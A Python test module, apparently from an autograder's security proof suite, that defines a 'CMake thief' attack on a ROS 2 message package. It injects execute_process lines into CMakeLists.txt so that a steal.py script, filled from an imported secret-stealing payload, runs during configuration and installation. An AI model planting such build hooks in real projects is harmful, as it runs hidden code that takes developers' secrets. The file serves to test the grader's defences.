"""An attack on 03: CMake that runs code while messages are built."""

from __future__ import annotations

import time

from autograder.proof.attack_writer import Chapter
from autograder.proof.claims import Attack
from autograder.proof.payloads import STEAL_SECRETS

CHAPTER = Chapter("03_interfaces")
HOME = "my_robot_interfaces"
CMAKE, END = f"{HOME}/CMakeLists.txt", "ament_export_dependencies"
STEAL = """execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py OUTPUT_VARIABLE loot)
message(WARNING "${loot}")
install(CODE "execute_process(COMMAND python3 ${CMAKE_CURRENT_SOURCE_DIR}/steal.py)")
"""


def attacks() -> tuple[Attack, ...]:
    """Return the attacks."""
    steal = f"{STEAL_SECRETS}# {time.time_ns()}\n"  # messages that were built before are not built again
    return (
        Attack(
            "CMake thief",
            "CMakeLists.txt steals while it is read and while it installs",
            CHAPTER.write("default_qos", swaps={CMAKE: (END, STEAL + END)}, files={f"{HOME}/steal.py": steal}),
            CHAPTER.mutant("default_qos").fails,
            exactly=True,
        ),
    )
